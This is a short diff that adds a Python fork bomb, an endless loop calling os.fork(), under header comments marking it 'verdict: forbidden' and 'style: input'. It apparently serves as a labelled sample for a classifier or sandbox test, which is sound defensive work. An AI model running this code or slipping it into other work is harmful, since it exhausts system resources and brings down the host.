@@ -1,0 +1,6 @@
+# verdict: forbidden
+# style: input
+import os
+
+while True:
+    os.fork()
